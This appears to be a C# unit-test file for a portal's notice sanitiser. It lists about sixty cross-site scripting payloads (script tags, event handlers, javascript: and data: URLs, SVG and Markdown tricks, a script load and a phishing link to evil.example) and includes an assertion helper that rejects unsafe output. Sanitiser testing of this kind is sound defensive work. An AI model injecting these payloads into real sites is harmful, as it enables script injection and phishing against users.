using AngleSharp.Html.Parser;

namespace OwnerPortal.UnitTests.Notices;

/// <summary>Hostile notice bodies: script tags, event handlers, javascript: and data: links, SVG, broken markup,
/// and Markdown link and image tricks.</summary>
public static class XssPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<p onclick=\"alert(1)\">click</p>",
        "<p title=\"x\" onmouseover=\"alert(1)\">hover</p>",
        "\"><script>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "<img src=x onerror=alert(1)//",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click]( javascript:alert(1) )",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x\" onerror=\"alert(1)](https://example.com/a.png)",
        "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "[a](<javascript:alert(1)>)",
        "**bold <script>alert(1)</script>**",
        "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "```\n</code><script>alert(1)</script>\n```",
        "<!--><script>alert(1)</script>-->",
        "<style>@import 'javascript:alert(1)';</style>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "[x](//evil.example/phish)",
    ];
}

public static class SafeHtml
{
    /// <summary>No script element, no on* attribute, no javascript:/data:/vbscript: URL anywhere.</summary>
    public static void Assert(string html)
    {
        var doc = new HtmlParser().ParseDocument($"<body>{html}</body>");
        Xunit.Assert.Empty(doc.QuerySelectorAll("script, iframe, object, embed, style, link, meta, base, form, svg, math, img, input, button"));
        foreach (var element in doc.Body!.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Xunit.Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} on <{element.LocalName}> in {html}");
                Xunit.Assert.NotEqual("style", attribute.Name);
                var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
                Xunit.Assert.False(value.StartsWith("javascript:") || value.StartsWith("data:") || value.StartsWith("vbscript:"), $"{attribute.Name}={attribute.Value} in {html}");
                if (attribute.Name == "href") Xunit.Assert.StartsWith("http", value);
            }
        }
    }
}
